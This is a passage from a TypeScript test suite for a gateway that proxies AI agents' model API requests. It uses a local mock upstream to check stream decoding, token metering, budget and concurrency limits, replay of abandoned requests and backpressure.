    if (model === 'flood') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.on('close', () => closed.push('flood'));
      const chunk = Buffer.from(
        sse('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: 'f'.repeat(64 * 1024) } }),
      );
      const pour = () => {
        while (flooded < FLOOD_BYTES && !response.destroyed) {
          flooded += chunk.length;
          if (!response.write(chunk)) return void response.once('drain', pour);
        }
        response.end();
      };
      return pour();
    }
    if (model === 'nousage') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(sse('response.created', { type: 'response.created', response: { id: 'resp_odd', usage: null } }));
      response.write(sse('response.output_text.delta', { type: 'response.output_text.delta', delta: 'n'.repeat(60) }));
      return void response.end(sse('response.completed', { type: 'response.completed', response: { id: 'resp_odd', status: 'completed', usage: null } }));
    }
    if (model === 'slow') {
      setTimeout(() => response.writeHead(200, { 'content-type': 'text/event-stream' }).end(ANTHROPIC_ANSWER.join('')), SLOW_ANSWER_MS);
      return;
    }
    if (model === 'pause') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.on('close', () => closed.push('pause'));
      response.write(ANTHROPIC_ANSWER.slice(0, 2).join(''));
      setTimeout(() => response.end(ANTHROPIC_ANSWER.slice(2).join('')), PAUSED_ANSWER_MS);
      return;
    }
    if (model === 'stall') {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.on('close', () => closed.push(`${request.url}`));
      if (request.url?.startsWith('/v1/responses')) {
        response.write(sse('response.created', { type: 'response.created', response: { id: 'resp_odd', usage: null } }));
        for (const letter of ['a', 'b']) response.write(sse('response.output_text.delta', { type: 'response.output_text.delta', delta: letter.repeat(30) }));
        return;
      }
      response.write(ANTHROPIC_ANSWER[0]!);
      for (const letter of ['a', 'b', 'c'])
        response.write(sse('content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: letter.repeat(30) } }));
      return;
    }
    response.writeHead(404).end();
  };
  const server = createServer((request, response) => {
    let text = '';
    request.on('data', (chunk: Buffer) => (text += chunk.toString()));
    request.on('end', () => {
      const body = JSON.parse(text || '{}') as Record<string, unknown>;
      requests.push({ method: request.method ?? '', url: request.url ?? '', headers: request.headers, body });
      play(request, response, body);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    closed,
    flooded: () => flooded,
    stop: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

/** Sends a streamed request and lets go of it once `events` SSE events have arrived; resolves with what arrived. */
function abortAfter(base: string, path: string, token: string, body: unknown, events: number, headers: Record<string, string> = {}): Promise<string> {
  const url = new URL(base);
  return new Promise((resolve, reject) => {
    const request = httpRequest(
      {
        host: url.hostname,
        port: url.port,
        method: 'POST',
        path,
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', ...headers },
      },
      (response) => {
        let received = '';
        response.on('data', (chunk: Buffer) => {
          received += chunk.toString();
          if (received.split('\n\n').length - 1 >= events) {
            request.destroy();
            resolve(received);
          }
        });
      },
    );
    request.on('error', (err: NodeJS.ErrnoException) => {
      if (err.code !== 'ECONNRESET') reject(err);
    });
    request.end(JSON.stringify(body));
  });
}

describe('the model proxy against an upstream that compresses, stalls, or speaks Chat Completions', () => {
  let gw: GatewayFixture;
  let base: string;
  let odd: OddUpstream;

  beforeAll(async () => {
    odd = await startOddUpstream();
    gw = await startGatewayFixture(
      { anthropicApiKey: ANTHROPIC_KEY, anthropicUpstreamUrl: odd.url, openaiApiKey: OPENAI_KEY, openaiUpstreamUrl: odd.url },
      undefined,
      { services: true },
    );
    base = await gw.app.listen({ host: '127.0.0.1', port: 0 });
  }, 60_000);
  afterAll(async () => {
    await gw?.stop();
    await odd?.stop();
  });

  const worker = (id: string, model: ModelAccess) => gw.createWorker(id, 'alice', 'running', { model });
  const post = (workerId: string, token: string, path: string, body: unknown) =>
    fetch(`${base}/v1/workers/${workerId}/model${path}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      body: JSON.stringify(body),
    });

  it('model proxy — an upstream that answers gzip although asked for identity: the agent gets the stream decoded, and it is metered', async () => {
    const token = await worker('wrk_mp_gzip', { apis: ['anthropic'] });
    const response = await post('wrk_mp_gzip', token, '/anthropic/v1/messages', { model: 'gzip', max_tokens: 100, stream: true, messages: [] });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-encoding')).toBeNull();
    expect(await response.text()).toBe(ANTHROPIC_ANSWER.join(''));
    expect(odd.requests.at(-1)!.headers['accept-encoding']).toBe('identity');
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_gzip')).model_usage?.requests === 1);
    expect((await workerViewOf(gw, base, 'wrk_mp_gzip')).model_usage).toMatchObject({ input_tokens: 100, output_tokens: 24 });
  });

  it('model proxy — a stream the agent aborts before its usage event is metered from what passed; the upstream request ends; the budget counts it', async () => {
    const token = await worker('wrk_mp_abort', { apis: ['anthropic'], budget: { max_tokens: 120 } });
    // message_start and three 30-character deltas: the agent lets go before message_delta.
    const received = await abortAfter(
      base,
      '/v1/workers/wrk_mp_abort/model/anthropic/v1/messages',
      token,
      { model: 'stall', max_tokens: 100, stream: true, messages: [] },
      4,
    );
    expect(received).toContain('c'.repeat(30));
    await waitFor('the upstream let go', async () => odd.closed.includes('/v1/messages'));
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_abort')).model_usage?.requests === 1);
    // 100 in as message_start said; out at least 90 characters / 3.
    expect((await workerViewOf(gw, base, 'wrk_mp_abort')).model_usage).toMatchObject({ input_tokens: 100, output_tokens: 30 });
    const next = await post('wrk_mp_abort', token, '/anthropic/v1/messages', { model: 'stall', max_tokens: 100, stream: true, messages: [] });
    expect(next.status).toBe(402);
    expect(await next.text()).toContain('token budget is used up (130 of max_tokens 120)');
  });

  it("model proxy — a sidecar's request whose agent went away unsaid: its answer is read to the end and kept; the same request asked again gets it whole — the upstream asked once, metered once, the history says so", async () => {
    const token = await worker('wrk_mp_reask', { apis: ['anthropic'] });
    const body = { model: 'pause', max_tokens: 100, stream: true, messages: [{ role: 'user', content: 'the first ask' }] };
    const asked = () => odd.requests.filter((r) => JSON.stringify(r.body).includes('the first ask')).length;
    // The sidecar dies after the answer's first words (no DELETE says it was given up).
    const cut = await abortAfter(base, '/v1/workers/wrk_mp_reask/model/anthropic/v1/messages', token, body, 1, { 'svc-model-request-id': 'req-reask-first' });
    expect(cut).toContain('message_start');
    // Read on to its end, although nobody reads it.
    await waitFor('the answer read to its end', async () => odd.closed.includes('pause'));
    // Its agent, started again, asks again (another request id: another sidecar).
    const again = await post('wrk_mp_reask', token, '/anthropic/v1/messages', body);
    expect(again.status).toBe(200);
    expect(again.headers.get('content-type')).toContain('text/event-stream');
    expect(await again.text()).toBe(ANTHROPIC_ANSWER.join(''));
    expect(asked()).toBe(1);
    // Metered once, whole: 100 in, 24 out.
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_reask')).model_usage?.requests === 1);
    expect((await workerViewOf(gw, base, 'wrk_mp_reask')).model_usage).toMatchObject({ input_tokens: 100, output_tokens: 24 });
    const replayed = await waitFor('the history says so', async () =>
      (await historyOf(gw, base, 'wrk_mp_reask')).find((e) => e.type === 'system' && (e.data as { subtype?: string }).subtype === 'model_answer_replayed'),
    );
    expect(replayed.data).toMatchObject({ level: 'info', details: { api: 'anthropic', path: '/v1/messages' } });
    // One re-ask takes it: a third is asked of the model.
    expect(await (await post('wrk_mp_reask', token, '/anthropic/v1/messages', body)).text()).toBe(ANTHROPIC_ANSWER.join(''));
    expect(asked()).toBe(2);
  });

  it('model proxy — asked again while the kept answer still comes: the re-ask gets what came and then the rest as it comes', async () => {
    const token = await worker('wrk_mp_reask_early', { apis: ['anthropic'] });
    const body = { model: 'pause', max_tokens: 100, stream: true, messages: [{ role: 'user', content: 'asked early' }] };
    const closedBefore = odd.closed.filter((c) => c === 'pause').length;
    await abortAfter(base, '/v1/workers/wrk_mp_reask_early/model/anthropic/v1/messages', token, body, 1, { 'svc-model-request-id': 'req-reask-early' });
    // Soon (the gateway has seen the agent go), while the upstream is still in its pause.
    await new Promise((resolve) => setTimeout(resolve, PAUSED_ANSWER_MS / 5));
    const again = await post('wrk_mp_reask_early', token, '/anthropic/v1/messages', body);
    expect(odd.closed.filter((c) => c === 'pause').length).toBe(closedBefore);
    expect(await again.text()).toBe(ANTHROPIC_ANSWER.join(''));
    expect(odd.requests.filter((r) => JSON.stringify(r.body).includes('asked early')).length).toBe(1);
  });

  it('model proxy — a request its sidecar says was given up (DELETE …/model-requests/{id}, an interrupt) is let go at once and not kept: asked again, the model is asked again', async () => {
    const token = await worker('wrk_mp_given_up', { apis: ['anthropic'] });
    const body = { model: 'stall', max_tokens: 100, stream: true, messages: [{ role: 'user', content: 'given up' }] };
    const closedBefore = odd.closed.length;
    await abortAfter(base, '/v1/workers/wrk_mp_given_up/model/anthropic/v1/messages', token, body, 2, { 'svc-model-request-id': 'req-given-up-1' });
    const said = await fetch(`${base}/v1/workers/wrk_mp_given_up/model-requests/req-given-up-1`, {
      method: 'DELETE',
      headers: { authorization: `Bearer ${token}` },
    });
    expect(said.status).toBe(204);
    await waitFor('the upstream let go', async () => odd.closed.length > closedBefore);
    // Said again, or of a request not in flight: nothing to do, and nothing wrong.
    expect(
      (await fetch(`${base}/v1/workers/wrk_mp_given_up/model-requests/req-given-up-1`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } }))
        .status,
    ).toBe(204);
    await abortAfter(base, '/v1/workers/wrk_mp_given_up/model/anthropic/v1/messages', token, body, 2, { 'svc-model-request-id': 'req-given-up-2' });
    expect(odd.requests.filter((r) => JSON.stringify(r.body).includes('given up')).length).toBe(2);
    await fetch(`${base}/v1/workers/wrk_mp_given_up/model-requests/req-given-up-2`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } });
  });

  it("model proxy — saying a request given up: a malformed id is 400, another worker's token 401, none 401", async () => {
    const token = await worker('wrk_mp_given_up_bad', { apis: ['anthropic'] });
    const other = await worker('wrk_mp_given_up_other', { apis: ['anthropic'] });
    const giveUp = (id: string, bearer?: string) =>
      fetch(`${base}/v1/workers/wrk_mp_given_up_bad/model-requests/${id}`, { method: 'DELETE', headers: bearer ? { authorization: `Bearer ${bearer}` } : {} });
    const malformed = await giveUp('short', token);
    expect(malformed.status).toBe(400);
    expect(await malformed.json()).toMatchObject({ code: 'invalid_request', message: expect.stringContaining('8 to 64') });
    expect((await giveUp('req-valid-id', other)).status).toBe(401);
    expect((await giveUp('req-valid-id')).status).toBe(401);
  });

  it('model proxy — a Responses stream cut short before response.completed: its input is estimated from the request, its output from the deltas', async () => {
    const token = await worker('wrk_mp_abort_openai', { apis: ['openai'] });
    const body = { model: 'stall', stream: true, input: [{ type: 'message', role: 'user', content: 'x'.repeat(400) }] };
    await abortAfter(base, '/v1/workers/wrk_mp_abort_openai/model/openai/v1/responses', token, body, 3);
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_abort_openai')).model_usage?.requests === 1);
    // The estimate is of the body sent upstream (with store: false).
    expect((await workerViewOf(gw, base, 'wrk_mp_abort_openai')).model_usage).toMatchObject({
      input_tokens: Math.ceil(JSON.stringify({ ...body, store: false }).length / 4),
      output_tokens: 20,
    });
  });

  it('model proxy — a stream that ends normally without a usage figure is metered by estimate, not as zero', async () => {
    const token = await worker('wrk_mp_nousage', { apis: ['openai'] });
    const body = { model: 'nousage', stream: true, input: [{ type: 'message', role: 'user', content: 'y'.repeat(400) }] };
    const response = await post('wrk_mp_nousage', token, '/openai/v1/responses', body);
    expect(response.status).toBe(200);
    expect(await response.text()).toContain('response.completed');
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_nousage')).model_usage?.requests === 1);
    // In: the request's size / 4; out: 60 characters of text / 3.
    expect((await workerViewOf(gw, base, 'wrk_mp_nousage')).model_usage).toMatchObject({
      input_tokens: Math.ceil(JSON.stringify({ ...body, store: false }).length / 4),
      output_tokens: 20,
    });
  });

  it("model proxy — a worker's 17th concurrent request is refused (429, retry-after) before its body is read; the 16 in flight complete", async () => {
    const token = await worker('wrk_mp_in_flight', { apis: ['anthropic'] });
    const before = odd.requests.length;
    const body = { model: 'slow', max_tokens: 100, stream: true, messages: [{ role: 'user', content: 'hi' }] };
    const inFlight = Array.from({ length: 16 }, () =>
      post('wrk_mp_in_flight', token, '/anthropic/v1/messages', body).then(async (r) => ({ status: r.status, body: await r.text() })),
    );
    await waitFor('16 requests at the upstream', async () => odd.requests.length - before === 16);
    // The 17th sends its headers and promises a body it never sends: the answer cannot wait for it.
    const url = new URL(base);
    const seventeenth = await new Promise<RawAnswer>((resolve, reject) => {
      const request = httpRequest(
        {
          host: url.hostname,
          port: url.port,
          method: 'POST',
          path: '/v1/workers/wrk_mp_in_flight/model/anthropic/v1/messages',
          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'content-length': '1000' },
        },
        (response) => {
          let text = '';
          response.on('data', (chunk: Buffer) => (text += chunk.toString()));
          response.on('end', () => {
            resolve({ status: response.statusCode ?? 0, headers: response.headers, body: text });
            request.destroy();
          });
        },
      );
      request.on('error', (err: NodeJS.ErrnoException) => {
        if (err.code !== 'ECONNRESET') reject(err);
      });
      request.flushHeaders();
    });
    expect(seventeenth.status).toBe(429);
    expect(seventeenth.headers['retry-after']).toBe('1');
    expect(JSON.parse(seventeenth.body)).toEqual({
      type: 'error',
      error: { type: 'rate_limit_error', message: expect.stringContaining('the worker has 16 model requests in flight') },
    });
    const answers = await Promise.all(inFlight);
    expect(answers.map((a) => a.status)).toEqual(answers.map(() => 200));
    expect(odd.requests.length - before).toBe(16);
    // Their places are free again.
    expect((await post('wrk_mp_in_flight', token, '/anthropic/v1/messages', body)).status).toBe(200);
    const [refusal] = await waitFor('the refusal in the history', async () => {
      const found = refusalsIn(await historyOf(gw, base, 'wrk_mp_in_flight'));
      return found.length === 1 ? found : undefined;
    });
    expect(refusal!.data.details).toMatchObject({ api: 'anthropic', reason: 'busy' });
  });

  it('model proxy — an agent that stops reading makes the upstream wait: the gateway does not buffer the answer', async () => {
    const token = await worker('wrk_mp_flood', { apis: ['anthropic'] });
    const url = new URL(base);
    const request = httpRequest({
      host: url.hostname,
      port: url.port,
      method: 'POST',
      path: '/v1/workers/wrk_mp_flood/model/anthropic/v1/messages',
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    });
    request.on('error', () => undefined);
    // The agent reads the first chunk, then nothing more.
    const started = new Promise<void>((resolve) => request.on('response', (response) => response.once('data', () => (response.pause(), resolve()))));
    request.end(JSON.stringify({ model: 'flood', max_tokens: 100, stream: true, messages: [] }));
    await started;
    // The upstream's writes stop once the sockets between it and the agent are full.
    let last = -1;
    await waitFor(
      'the upstream held back',
      async () => {
        const now = odd.flooded();
        const still = now === last;
        last = now;
        await new Promise((resolve) => setTimeout(resolve, HELD_BACK_MS));
        return still;
      },
      15_000,
    );
    expect(odd.flooded()).toBeLessThan(64 * 1024 * 1024);
    request.destroy();
    await waitFor('the upstream let go', async () => odd.closed.includes('flood'));
  });

  it('model proxy — a streamed Chat Completions request is sent with include_usage, and metered from the usage chunk', async () => {
    const token = await worker('wrk_mp_chat', { apis: ['openai'] });
    const response = await post('wrk_mp_chat', token, '/openai/v1/chat/completions', {
      model: 'gpt-5-mini',
      stream: true,
      messages: [{ role: 'user', content: 'hi' }],
    });
    expect(response.status).toBe(200);
    expect(await response.text()).toContain('data: [DONE]');
    expect(odd.requests.at(-1)!.body).toMatchObject({ stream: true, stream_options: { include_usage: true } });
    await waitFor('the usage', async () => (await workerViewOf(gw, base, 'wrk_mp_chat')).model_usage?.requests === 1);
    expect((await workerViewOf(gw, base, 'wrk_mp_chat')).model_usage).toMatchObject({
      input_tokens: 300,
      output_tokens: 20,
      cost_usd: (300 * 0.25 + 20 * 2) / 1e6,
    });
  });

  it("model proxy — 20 concurrent requests against a budget of one request's worth: one reaches the upstream; each of the others is refused and counted", async () => {
    // Each request holds its max_tokens (100) and its estimated input while it runs; the answer is 124 tokens.
    const token = await worker('wrk_mp_race', { apis: ['anthropic'], budget: { max_tokens: 100 } });
    const before = odd.requests.length;
    const answers = await Promise.all(
      Array.from({ length: 20 }, () =>
        post('wrk_mp_race', token, '/anthropic/v1/messages', {
          model: 'slow',
          max_tokens: 100,
          stream: true,
          messages: [{ role: 'user', content: 'hi' }],
        }).then(async (r) => ({ status: r.status, retryAfter: r.headers.get('retry-after'), body: await r.text() })),
      ),
    );
    expect(answers.filter((a) => a.status === 200)).toHaveLength(1);
    expect(odd.requests.length - before).toBe(1);
    const refused = answers.filter((a) => a.status !== 200);
    // Held by the request in flight (or, past 16 at once, refused before the budget is asked):
    // 429, retry after a second.
    expect(refused.map((a) => a.status)).toEqual(refused.map(() => 429));
    for (const answer of refused) {
      expect(answer.retryAfter).toBe('1');
      expect(JSON.parse(answer.body)).toEqual({
        type: 'error',
        error: { type: 'rate_limit_error', message: expect.stringMatching(/held by 1 model request in flight|the worker has 16 model requests in flight/) },
      });
    }
    const heldCount = refused.filter((a) => a.body.includes('held by 1 model request in flight')).length;
    expect(heldCount).toBeGreaterThanOrEqual(15);
    await waitFor('every request counted', async () => (await workerViewOf(gw, base, 'wrk_mp_race')).model_usage?.requests === 1);
    expect((await workerViewOf(gw, base, 'wrk_mp_race')).model_usage).toMatchObject({ requests: 1, refused: heldCount, input_tokens: 100, output_tokens: 24 });
    const refusals = await waitFor('the refusals in the history', async () => {
      const found = refusalsIn(await historyOf(gw, base, 'wrk_mp_race'));
      return found.length === 19 ? found : undefined;
    });
    const held = refusals.filter((e) => e.data.details?.['reason'] === 'budget_held');
    expect(held).toHaveLength(heldCount);
    expect(held[0]!.data).toMatchObject({
      level: 'warn',
      details: { reason: 'budget_held' },
      message: expect.stringMatching(/\(0 \+ \d+ held of max_tokens 100\); retry when it ends$/),
    });
    // Now the budget is used up: the next request is refused for good.
    const after = await post('wrk_mp_race', token, '/anthropic/v1/messages', { model: 'slow', max_tokens: 100, stream: true, messages: [] });
    expect(after.status).toBe(402);
  });
});
